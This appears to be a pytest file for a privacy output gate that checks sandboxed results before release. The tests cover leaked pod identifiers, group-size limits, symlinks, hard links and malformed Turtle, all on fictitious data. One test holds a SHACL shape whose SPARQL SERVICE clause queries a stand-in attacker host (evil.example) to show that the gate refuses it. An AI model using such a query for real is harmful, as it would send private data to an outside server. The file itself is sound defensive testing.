"""The output gate on hand-made output folders (server.datacage.gate), through its sandbox."""

import json
import os
from pathlib import Path

import pytest
from rdflib import Graph

from server.datacage.gate import (
    GatePolicy,
    InputIdentifiers,
    PersonInputs,
    check_output,
    scrub,
)

PREFIXES = """@prefix ex: <https://example.org/ns#> .
@prefix dcg: <https://w3id.org/datacage/ns#> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
"""
SHAPE = (
    PREFIXES
    + """@prefix sh: <http://www.w3.org/ns/shacl#> .
ex:ReportShape a sh:NodeShape ;
    sh:targetClass ex:Report ;
    sh:closed true ;
    sh:ignoredProperties ( <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> ) ;
    sh:property [ sh:path dcg:individuals ; sh:datatype xsd:integer ] ,
                 [ sh:path ex:commonCustomers ; sh:datatype xsd:integer ; sh:minCount 1 ;
                  sh:maxCount 1 ; sh:minInclusive 0 ] ,
                [ sh:path ex:region ; sh:datatype xsd:string ; sh:maxCount 1 ] ,
                [ sh:path ex:contact ; sh:maxCount 1 ; dcg:mayContainIdentifiers true ] .
"""
)
REPORT = (
    PREFIXES
    + 'ex:north a ex:Report ; ex:commonCustomers 42 ; dcg:individuals 12 ; ex:region "North" .\n'
)

ALICE = "https://alice.pod.example/profile/card#me"
BOB = "https://bob.pod.example/profile/card#me"
CONTACTS = b"""@prefix foaf: <http://xmlns.com/foaf/0.1/> .
@prefix vcard: <http://www.w3.org/2006/vcard/ns#> .
<#carol> foaf:name "Carol Customer" ; foaf:mbox <mailto:Carol.Customer@Example.org> ;
    foaf:givenName "Mark" ; foaf:nick "Bo" ;
    vcard:hasTelephone [ vcard:value <tel:+44-20-7946-0958> ] .
"""
PEOPLE = [
    PersonInputs(
        ALICE, [("https://alice.pod.example/contacts/customers.ttl", "text/turtle", CONTACTS)]
    ),
    PersonInputs(
        BOB,
        [
            ("https://bob.pod.example/shop.csv", "text/csv", b"name,email\nDave Dealer,x\n"),
            ("https://bob.pod.example/notes.txt", "text/plain", b"ask dave@shop.example"),
            (
                "https://bob.pod.example/people.json",
                "application/ld+json",
                json.dumps(
                    {"@context": "https://remote.example/ctx", "givenName": "Erin"}
                ).encode(),
            ),
        ],
    ),
]


@pytest.fixture(scope="module")
def identifiers() -> InputIdentifiers:
    return InputIdentifiers.collect(PEOPLE)


@pytest.fixture
def policy() -> GatePolicy:
    return GatePolicy(shape=Graph().parse(data=SHAPE, format="turtle"), min_individuals=5)


def output(tmp_path: Path, files: dict[str, str | bytes]) -> Path:
    folder = tmp_path / "out"
    folder.mkdir(exist_ok=True)
    for name, content in files.items():
        data = content.encode() if isinstance(content, str) else content
        (folder / name).write_bytes(data)
    return folder


def gate(folder, policy, identifiers, people=20):
    return check_output(folder, policy, identifiers, individuals_in_run=people)


def refused(verdict) -> str:
    assert not verdict.passed
    assert verdict.graph is None
    return " ".join(verdict.reasons)


# --- What passes --------------------------------------------------------------------------------


def test_a_result_that_fits_passes_with_its_graph_and_stays(tmp_path, policy, identifiers):
    folder = output(tmp_path, {"report.ttl": REPORT, "more.ttl": REPORT.replace("north", "south")})
    verdict = gate(folder, policy, identifiers)
    assert verdict.passed, verdict.reasons
    assert verdict.reasons == []
    assert len(verdict.graph) == 8
    assert verdict.size == 2 * len(REPORT.encode())
    assert sorted(p.name for p in folder.iterdir()) == ["more.ttl", "report.ttl"]


def test_names_match_only_as_whole_words(tmp_path, policy, identifiers):
    # "Mark" was read from a pod; "Marketing" is not his name.
    report = REPORT.replace('"North"', '"Marketing, north"')
    assert gate(output(tmp_path, {"r.ttl": report}), policy, identifiers).passed
    shouted = REPORT.replace('"North"', '"Ask MARK."')
    assert "a name read from a pod" in refused(
        gate(output(tmp_path, {"r.ttl": shouted}), policy, identifiers)
    )


def test_the_shape_may_allow_identifiers_at_a_named_property(tmp_path, policy, identifiers):
    report = REPORT.replace(
        '"North" .', '"North" ; ex:contact <mailto:carol.customer@example.org> .'
    )
    assert gate(output(tmp_path, {"r.ttl": report}), policy, identifiers).passed
    # Only there: the same address under another property is still refused.
    elsewhere = report.replace('"North"', '"carol.customer@example.org"')
    reasons = refused(gate(output(tmp_path, {"r.ttl": elsewhere}), policy, identifiers))
    assert "The result contains an e-mail address read from a pod (1 places)." in reasons


# --- The shape and the smallest group ------------------------------------------------------------


def test_a_result_that_breaks_the_shape_is_refused_saying_where(tmp_path, policy, identifiers):
    report = REPORT.replace("ex:commonCustomers 42", 'ex:commonCustomers "many"')
    reasons = refused(gate(output(tmp_path, {"r.ttl": report}), policy, identifiers))
    assert (
        "1 values do not fit the output shape at ex:ReportShape / ex:commonCustomers "
        "(sh:DatatypeConstraintComponent)." in reasons
    )
    assert "many" not in reasons


def test_shape_messages_never_quote_an_identifier(tmp_path, policy, identifiers):
    report = REPORT.replace("ex:north", "<mailto:dave@shop.example>").replace(
        "ex:commonCustomers 42", 'ex:commonCustomers "Dave Dealer"'
    )
    reasons = refused(gate(output(tmp_path, {"r.ttl": report}), policy, identifiers))
    assert "ex:commonCustomers" in reasons
    assert "dave" not in reasons.lower()
    assert "mailto" not in reasons


def test_a_shape_whose_sparql_would_reach_outside_is_not_run(tmp_path, identifiers):
    remote = SHAPE.replace(
        "sh:targetClass ex:Report ;",
        'sh:targetClass ex:Report ; sh:sparql [ sh:select """SELECT $this WHERE { '
        'SERVICE <https://evil.example/sparql> { $this ?p ?o } }""" ] ;',
    )
    policy = GatePolicy(shape=Graph().parse(data=remote, format="turtle"), min_individuals=5)
    reasons = refused(gate(output(tmp_path, {"r.ttl": REPORT}), policy, identifiers))
    assert "The approved output shape uses SPARQL (sh:select), which the gate" in reasons


@pytest.mark.parametrize(
    ("declared", "words"),
    [
        (
            "dcg:individuals 3",
            "1 nodes of the result cover fewer individuals than this space's smallest group (5).",
        ),
        ("", "1 nodes of the result do not say how many individuals they cover"),
        ("dcg:individuals 6, 7", "1 nodes of the result have more than one dcg:individuals."),
        ('dcg:individuals "12"', "have a dcg:individuals that is not an xsd:integer"),
        (
            "dcg:individuals 21",
            "1 nodes of the result claim to cover more individuals than this run read",
        ),
    ],
)
def test_every_result_node_declares_a_coverage_from_k_to_the_people_read(
    tmp_path, policy, identifiers, declared, words
):
    report = REPORT.replace("dcg:individuals 12", declared).replace("42 ;  ;", "42 ;")
    assert words in refused(gate(output(tmp_path, {"r.ttl": report}), policy, identifiers))


def test_a_subclass_of_a_targeted_class_is_a_result_node_too(tmp_path, policy, identifiers):
    sneaky = (
        PREFIXES + "ex:Row rdfs:subClassOf ex:Report .\nex:one a ex:Row ; ex:commonCustomers 1 .\n"
    )
    reasons = refused(gate(output(tmp_path, {"r.ttl": REPORT + sneaky}), policy, identifiers))
    assert "2 nodes of the result do not say how many individuals they cover" in reasons
    assert "statements are about nodes that no closed shape describes" in reasons


def test_a_run_with_fewer_people_than_k_releases_nothing(tmp_path, policy, identifiers):
    report = REPORT.replace("dcg:individuals 12", "dcg:individuals 5")
    reasons = refused(gate(output(tmp_path, {"r.ttl": report}), policy, identifiers, people=4))
    assert "read the data of fewer people than this space's smallest group (5)" in reasons


# --- Identifiers read from pods -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("<mailto:carol.customer@example.org>", "an e-mail address read from a pod"),
        ('"Carol.Customer@Example.org"', "an e-mail address read from a pod"),
        ('"write to CAROL.CUSTOMER@EXAMPLE.ORG soon"', "an e-mail address read from a pod"),
        ('"mailto:dave@shop.example"', "an e-mail address read from a pod"),
        ("<mailto:carol.customer%40example.org>", "an e-mail address read from a pod"),
        (f"<{ALICE}>", "the WebID of a person whose data was read"),
        ('"https://bob.pod.example/profile/card"', "the WebID of a person whose data was read"),
        ('"Report for carol   customer"', "a name read from a pod"),
        ('"Dave Dealer"', "a name read from a pod"),
        ('"erin"', "a name read from a pod"),
        ('"+44-20-7946-0958"', "a telephone number read from a pod"),
        ("<https://bob.pod.example/shop.csv>", "the address of a resource read from a pod"),
    ],
)
def test_an_identifier_read_from_a_pod_never_leaves_verbatim(
    tmp_path, policy, identifiers, value, kind
):
    report = REPORT.replace('"North"', value)
    verdict = gate(output(tmp_path, {"r.ttl": report}), policy, identifiers)
    reasons = refused(verdict)
    assert f"The result contains {kind} (1 places)." in reasons
    assert "carol" not in reasons.lower()
    assert "dave" not in reasons.lower()


def test_identifiers_in_node_iris_property_iris_comments_and_file_names_are_refused(
    tmp_path, policy, identifiers
):
    report = (
        REPORT
        + "# made for carol.customer@example.org\n"
        + '<https://x.example/dave@shop.example> ex:note "x" .\n'
        + '<https://x.example/r> <https://x.example/by/erin> "x" .\n'
    )
    reasons = refused(gate(output(tmp_path, {"erin.ttl": report}), policy, identifiers))
    assert "The result contains an e-mail address read from a pod" in reasons
    assert "The result contains a name read from a pod" in reasons
    assert "statements are about nodes that no closed shape describes" in reasons
    for chosen in ("carol", "erin", "dave", "x.example"):
        assert chosen not in reasons.lower()


def test_values_too_short_to_refuse_on_are_not_identifiers(identifiers):
    assert "bo" not in identifiers.values  # foaf:nick "Bo": shorter than four characters
    assert {
        "carol customer",
        "mark",
        "erin",
        "dave dealer",
        "dave@shop.example",
    } <= identifiers.values
    assert "carol.customer@example.org" in identifiers.values  # mailto: stripped, lower-cased
    assert identifiers.kind_of("carol.customer@example.org") == "an e-mail address read from a pod"


# --- The output folder --------------------------------------------------------------------------


def test_links_folders_other_files_and_an_empty_output_are_refused(tmp_path, policy, identifiers):
    secret = tmp_path / "secret.ttl"
    secret.write_text(REPORT)
    folder = output(tmp_path, {"report.ttl": REPORT, "notes.txt": "hello"})
    (folder / "link.ttl").symlink_to(secret)
    (folder / "sub").mkdir()
    (folder / "sub" / "inner.ttl").write_text(REPORT)
    reasons = refused(gate(folder, policy, identifiers))
    assert "3 entries of the output are not plain *.ttl files" in reasons
    for chosen in ("link.ttl", "sub", "notes"):
        assert chosen not in reasons
    assert list(folder.iterdir()) == []  # all of it deleted: the link, not what it pointed to
    assert secret.read_text() == REPORT
    empty = refused(gate(folder, policy, identifiers))
    assert "The algorithm wrote no output: an empty result is refused." in empty


def test_a_hard_link_and_a_pipe_are_refused(tmp_path, policy, identifiers):
    folder = output(tmp_path, {"report.ttl": REPORT})
    os.link(folder / "report.ttl", tmp_path / "elsewhere.ttl")
    os.mkfifo(folder / "pipe.ttl")
    reasons = refused(gate(folder, policy, identifiers))
    assert "1 output files are hard links" in reasons
    assert "1 entries of the output are not plain *.ttl files" in reasons


def test_an_output_over_the_size_limit_is_refused_before_it_is_read(tmp_path, identifiers):
    shape = Graph().parse(data=SHAPE, format="turtle")
    small = GatePolicy(shape=shape, min_individuals=5, max_bytes=100)
    folder = output(tmp_path, {"a.ttl": REPORT, "b.ttl": "not turtle at all"})
    reasons = refused(gate(folder, small, identifiers))
    assert "larger than a result may be (100 bytes); it was not read" in reasons
    assert "not valid Turtle" not in reasons
    assert not any(folder.iterdir())


def test_bad_turtle_is_refused_without_naming_the_file(tmp_path, policy, identifiers):
    folder = output(
        tmp_path, {"good.ttl": REPORT, "bad.ttl": PREFIXES + "ex:a ex:b ex:c ;;\n ex:d ."}
    )
    reasons = refused(gate(folder, policy, identifiers))
    assert reasons == "1 output files are not valid Turtle."
    assert not any(folder.iterdir())
    latin1 = output(tmp_path, {"l.ttl": b'\n\n"caf\xe9"'})
    assert "1 output files are not UTF-8" in refused(gate(latin1, policy, identifiers))


def test_a_file_with_only_prefixes_is_an_empty_result(tmp_path, policy, identifiers):
    assert "no statements" in refused(
        gate(output(tmp_path, {"r.ttl": PREFIXES}), policy, identifiers)
    )


# --- Logs ---------------------------------------------------------------------------------------


def test_scrub_removes_every_identifier_from_logs(identifiers):
    log = (
        "reading https://alice.pod.example/profile/card#me: found CAROL.CUSTOMER@example.org "
        "(mailto:dave@shop.example), Mark and Erin; Marketing total 42; Bo"
    )
    assert scrub(log, identifiers) == (
        "reading [removed]: found [removed] (mailto:[removed]), [removed] and [removed]; "
        "Marketing total 42; Bo"
    )
    assert scrub("nothing here", InputIdentifiers(frozenset())) == "nothing here"
